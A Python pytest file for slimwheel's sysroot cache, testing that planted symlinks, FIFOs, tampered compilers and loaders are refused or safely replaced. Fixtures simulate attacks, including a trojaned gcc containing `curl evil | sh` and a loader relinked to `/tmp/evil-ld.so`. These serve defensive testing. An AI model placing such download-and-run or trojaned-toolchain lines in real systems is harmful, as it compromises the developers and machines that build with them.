"""Issue 41 (S14): links and files planted in an assembled sysroot, or beside it. Before: `sysroot` overwrote gcc/g++
wherever a planted `bin` link pointed, deleted dotfiles wherever `host-python-include/...` pointed, created a file
through a link on its lock file, hung on a FIFO, and handed out a changed compiler. Now a cached root is verified
(content recorded at assembly, folders judged as the run-time loader judges library folders) before use, and every
file slimwheel writes in it is created fresh and renamed into place."""

from __future__ import annotations

import contextlib
import json
import os
import signal
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from slimwheel.errors import BadInputError
from slimwheel.toolkit import sysroot as sr
from slimwheel.toolkit.sysroot import SPECS, STAMP, STAMP_SCHEMA, ensure_sysroot, tree_manifest, wrapper_script

SPEC = SPECS["debian11"]
GCC = "usr/bin/x86_64-linux-gnu-gcc-10"


@contextlib.contextmanager
def no_hang(seconds: int = 20) -> Iterator[None]:
    """Fail (instead of hanging the suite) when the block waits on a FIFO."""

    def expired(signum: int, frame: object) -> None:
        raise AssertionError(f"hung for {seconds} s (waiting on a FIFO?)")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def assemble_fake(cache: Path) -> Path:
    """A root as `_assemble` leaves it: a few files and links of the packages, the wrappers, a stamp recording them."""
    root = cache / "sysroots" / "debian11"
    for rel, data in {GCC: b"\x7fELF gcc-10", "usr/lib/x86_64-linux-gnu/libc.so.6": b"\x7fELF libc"}.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    (root / GCC).chmod(0o755)
    (root / "lib64").mkdir()
    (root / "lib64" / "ld-linux-x86-64.so.2").symlink_to("../usr/lib/x86_64-linux-gnu/libc.so.6")
    sr.write_wrappers(root, SPEC)
    stamp = {"schema": STAMP_SCHEMA, "name": "debian11", "packages": {"gcc-10": "10.2.1-6"}}
    (root / STAMP).write_text(json.dumps({**stamp, "files": tree_manifest(root)}))
    return root


@pytest.fixture
def cache(tmp_path: Path) -> Path:
    return tmp_path / "cache"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """Somebody else's files, which no sysroot run may touch."""
    d = tmp_path / "elsewhere"
    d.mkdir()
    for name in ("gcc", "g++", ".bashrc", ".profile"):
        (d / name).write_text(f"precious {name}\n")
        (d / name).chmod(0o600)
    return d


def untouched(outside: Path) -> None:
    for name in ("gcc", "g++", ".bashrc", ".profile"):
        p = outside / name
        assert p.read_text() == f"precious {name}\n" and (p.stat().st_mode & 0o777) == 0o600
    assert sorted(p.name for p in outside.iterdir()) == [".bashrc", ".profile", "g++", "gcc"]


def use(cache: Path) -> sr.Sysroot:
    with no_hang():
        return ensure_sysroot("debian11", env={"SLIMWHEEL_CACHE": str(cache)})


def test_a_clean_cached_root_is_used_as_it_is(cache: Path) -> None:
    root = assemble_fake(cache)
    before = tree_manifest(root)
    got = use(cache)
    assert got.root == root and got.packages == {"gcc-10": "10.2.1-6"}
    assert tree_manifest(root) == before
    assert (root / "bin" / "g++").read_text() == wrapper_script(root, "g++", SPEC)


def test_a_bin_link_makes_it_refuse_not_overwrite_compilers_elsewhere(cache: Path, outside: Path) -> None:
    root = assemble_fake(cache)
    os.rename(root / "bin", cache / "old-bin")
    (root / "bin").symlink_to(outside)
    with pytest.raises(BadInputError, match="bin changed since it was assembled"):
        use(cache)
    untouched(outside)


@pytest.mark.parametrize("plant", ["symlink", "hardlink", "fifo"])
def test_a_wrapper_planted_as_a_link_or_fifo_is_replaced_not_written_through(
    cache: Path, outside: Path, plant: str
) -> None:
    root = assemble_fake(cache)
    for prog in ("gcc", "g++"):
        w = root / "bin" / prog
        w.unlink()
        if plant == "symlink":
            w.symlink_to(outside / prog)
        elif plant == "hardlink":
            os.link(outside / prog, w)
        else:
            os.mkfifo(w)
    use(cache)
    untouched(outside)
    for prog in ("gcc", "g++"):
        w = root / "bin" / prog
        assert not w.is_symlink() and w.stat().st_nlink == 1 and (w.stat().st_mode & 0o777) == 0o755
        assert w.read_text() == wrapper_script(root, prog, SPEC)


def test_a_link_on_the_python_header_folder_never_deletes_dotfiles_elsewhere(cache: Path, outside: Path) -> None:
    root = assemble_fake(cache)
    folder = root / sr.HOST_PYTHON_INCLUDE / sr.MULTIARCH
    for p in folder.iterdir():
        p.unlink()
    folder.rmdir()
    folder.symlink_to(outside)
    with pytest.raises(BadInputError, match="cannot be opened as a folder"):
        use(cache)
    untouched(outside)


def test_a_folder_planted_among_the_python_header_links_is_refused(cache: Path) -> None:
    root = assemble_fake(cache)
    (root / sr.HOST_PYTHON_INCLUDE / sr.MULTIARCH / "openssl").mkdir()
    with pytest.raises(BadInputError, match="a folder slimwheel did not put there"):
        use(cache)


def test_a_link_on_the_lock_file_creates_nothing_through_it(cache: Path, outside: Path) -> None:
    assemble_fake(cache)
    (cache / "sysroots" / ".debian11.lock").symlink_to(outside / "created-by-the-lock")
    with pytest.raises(BadInputError, match="lock file"):
        use(cache)
    assert not (outside / "created-by-the-lock").exists()
    untouched(outside)


def test_a_fifo_as_the_lock_file_is_refused_without_waiting(cache: Path) -> None:
    assemble_fake(cache)
    os.mkfifo(cache / "sysroots" / ".debian11.lock")
    with pytest.raises(BadInputError, match="must be a regular file"):
        use(cache)


def test_a_fifo_as_the_stamp_means_no_stamp(cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = assemble_fake(cache)
    (root / STAMP).unlink()
    os.mkfifo(root / STAMP)
    assembled: list[Path] = []

    def fake_assemble(spec: object, r: Path) -> str:
        assembled.append(r)
        return "assembled"

    monkeypatch.setattr(sr, "_assemble", fake_assemble)
    assert use(cache) == "assembled"  # type: ignore[comparison-overlap]
    assert assembled == [root]


def test_a_root_of_the_old_schema_is_assembled_again(cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = assemble_fake(cache)
    stamp = json.loads((root / STAMP).read_text())
    del stamp["files"]
    (root / STAMP).write_text(json.dumps({**stamp, "schema": 1}))
    monkeypatch.setattr(sr, "_assemble", lambda spec, r: "assembled")
    assert use(cache) == "assembled"  # type: ignore[comparison-overlap]


def _trojan(root: Path) -> None:
    (root / GCC).write_bytes(b"#!/bin/sh\ncurl evil | sh\n")


def _planted_library(root: Path) -> None:
    (root / "usr/lib/x86_64-linux-gnu/libevil.so").write_bytes(b"\x7fELF")


def _relinked_loader(root: Path) -> None:
    (root / "lib64" / "ld-linux-x86-64.so.2").unlink()
    (root / "lib64" / "ld-linux-x86-64.so.2").symlink_to("/tmp/evil-ld.so")


def _mode(root: Path) -> None:
    (root / GCC).chmod(0o4755)


def _removed(root: Path) -> None:
    (root / "usr/lib/x86_64-linux-gnu/libc.so.6").unlink()


def _planted_in_bin(root: Path) -> None:
    (root / "bin" / "cc1plus").write_text("#!/bin/sh\n")


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (_trojan, f"{GCC} changed since it was assembled"),
        (_planted_library, "libevil.so was not there when it was assembled"),
        (_relinked_loader, "a link to /tmp/evil-ld.so now"),
        (_mode, "a file of mode 4755"),
        (_removed, "libc.so.6 is gone"),
        (_planted_in_bin, "bin/cc1plus was not there"),
    ],
)
def test_a_changed_root_is_refused_naming_the_change(cache: Path, change: Callable[[Path], None], says: str) -> None:
    root = assemble_fake(cache)
    change(root)
    before_gcc = (root / GCC).read_bytes() if (root / GCC).exists() else None
    with pytest.raises(BadInputError) as e:
        use(cache)
    assert says in str(e.value) and "is not used" in str(e.value) and f"remove {root}" in str(e.value)
    assert ((root / GCC).read_bytes() if (root / GCC).exists() else None) == before_gcc  # refused, not "repaired"


@pytest.mark.parametrize("what", ["world-writable file", "world-writable folder", "foreign owner", "fifo"])
def test_entries_others_could_change_are_refused(cache: Path, what: str) -> None:
    root = assemble_fake(cache)
    lib = root / "usr/lib/x86_64-linux-gnu"
    if what == "world-writable file":
        (lib / "libc.so.6").chmod(0o666)
    elif what == "world-writable folder":
        lib.chmod(0o777)
    elif what == "foreign owner":
        os.chown(lib / "libc.so.6", 4242, 4242)
    else:
        os.mkfifo(lib / "libfifo.so")
    with pytest.raises(BadInputError, match="sysroot"):
        use(cache)


def test_a_root_in_a_folder_others_can_write_is_refused(cache: Path) -> None:
    root = assemble_fake(cache)
    root.chmod(0o777)
    with pytest.raises(BadInputError, match="writable by everyone"):
        use(cache)


def test_a_root_that_is_a_link_is_refused(cache: Path, tmp_path: Path) -> None:
    root = assemble_fake(cache)
    os.rename(root, tmp_path / "real-root")
    root.symlink_to(tmp_path / "real-root")
    with pytest.raises(BadInputError, match="is a link"):
        use(cache)
